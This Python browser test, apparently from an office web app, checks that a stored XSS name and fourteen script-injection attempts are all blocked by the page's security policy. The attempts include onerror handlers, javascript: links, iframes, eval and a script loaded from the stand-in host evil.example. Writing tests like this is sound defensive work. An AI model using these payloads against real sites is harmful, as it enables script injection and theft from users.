"""A script that somebody brings into a page of the office does not run."""

import pytest
import sqlalchemy as sa

from bridge.store.tables import loans, robots
from tests.bridge.office.browsing import chromium
from tests.bridge.office.staff import Staff
from tests.bridge.store.samples import ROBOT, office_loan

STORED = "<img src=x onerror=ran=1>"

ATTEMPTS = {
    "handler in HTML": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=ran=1>')",
    "script in HTML": "document.body.insertAdjacentHTML('beforeend', '<script>ran=1</script>')",
    "link that runs": """document.body.insertAdjacentHTML('beforeend',
        '<a id=bad href="javascript:ran=1">x</a>'); document.getElementById('bad').click()""",
    "picture of SVG": "document.body.insertAdjacentHTML('beforeend', '<svg onload=ran=1>')",
    "frame": """const frame = document.createElement('iframe');
        frame.srcdoc = '<script>parent.ran=1</script>'; document.body.append(frame)""",
    "script element": """const script = document.createElement('script');
        script.text = 'ran=1'; document.body.append(script)""",
    "script from data": """const script = document.createElement('script');
        script.src = 'data:text/javascript,ran=1'; document.body.append(script)""",
    "script from elsewhere": """const script = document.createElement('script');
        script.src = 'https://evil.example/ran.js'; document.body.append(script)""",
    "handler": "document.body.setAttribute('onclick', 'ran=1'); document.body.click()",
    "evaluation": "eval('ran=1')",
    "function": "new Function('ran=1')()",
    "timer": "setTimeout('ran=1')",
    "address": "location.href = 'javascript:ran=1'",
    "base": "document.head.insertAdjacentHTML('beforeend', '<base href=https://evil.example>')",
}

TRY = """(attempts) => new Promise((done) => {
  globalThis.ran = 0;
  // In a task of its own: what a debugger evaluates may do more than a page.
  setTimeout(() => {
    for (const attempt of attempts) {
      const button = document.createElement('button');
      button.addEventListener('click', () => globalThis.tries[attempt]());
      try { button.click(); } catch { /* refused */ }
    }
    setTimeout(() => done([globalThis.ran, document.baseURI, location.href]));
  });
})"""


@pytest.mark.browser
async def test_what_is_brought_into_a_page_does_not_run(staff: Staff) -> None:
    await staff.store.put_robot(ROBOT)
    loan = await office_loan(staff.store, ("Lena K.", "Frau K.", "0451 5550199", "7c"))
    async with staff.store.database.begin(write=True) as connection:
        await connection.execute(sa.update(robots).values(name=STORED))
        await connection.execute(sa.update(loans).values(ended_at=1))
    lead = await staff.person("lead")
    number = await staff.register.erase_loan(lead, loan)
    async with chromium(staff) as window:
        page = window.page
        await window.sign_in(lead)
        await page.add_init_script(
            "globalThis.tries = {"
            + ",".join(f"{name!r}: () => {{ {code} }}" for name, code in ATTEMPTS.items())
            + "}"
        )
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        await window.goto(f"/office/erased/{number}")
        await window.says(STORED)
        where = page.url
        told = await page.evaluate(TRY, list(ATTEMPTS))
        assert told == [0, where, where]
        # Each was refused by the page's policy, and by nothing else.
        refused = len(window.wrong) + len(errors)
        assert refused >= len(ATTEMPTS)
        window.wrong.clear()
